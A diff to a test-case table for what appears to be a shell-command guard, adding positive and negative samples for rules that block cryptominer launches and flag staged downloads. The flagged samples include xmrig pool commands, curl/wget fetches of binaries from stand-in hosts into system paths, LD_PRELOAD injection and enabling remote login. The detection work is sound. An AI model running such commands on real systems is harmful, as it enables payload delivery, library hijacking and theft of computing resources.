@@ -142,6 +142,16 @@ CASES: dict[str, tuple[list[str], list[str]]] = {
         ["LD_PRELOAD=/tmp/hook.so ls", "export LD_AUDIT=./audit.so; make", "DYLD_INSERT_LIBRARIES=lib.dylib open -a X"],
         ["LD_PRELOAD= ls", "ldd /bin/ls", "echo $LD_PRELOAD"],
     ),
+    "block.shell.miner": (
+        ["./xmrig -o stratum+tcp://pool.example:3333 -u wallet", "nohup ./worker --donate-level 1 -o p.example:443 &"],
+        ["./build/worker --threads 4", "cargo run --release -- --algo quicksort"],
+    ),
+    "confirm.shell.staged-download": (
+        ["curl -o /usr/local/bin/helper https://x.example/h", "wget -O /dev/shm/k https://x.example/k",
+         "curl -s http://203.0.113.5/agent -o agent", "wget http://198.51.100.7/x"],
+        ["curl -o data.json https://api.example.com/data", "wget https://example.org/file.tar.gz",
+         "curl http://127.0.0.1:8000/health"],
+    ),
     "block.shell.remote-access": (
         ["systemsetup -setremotelogin on", "sysadminctl -smbGuestAccess on"],
         ["systemsetup -getremotelogin", "sysadminctl -guestAccount status"],
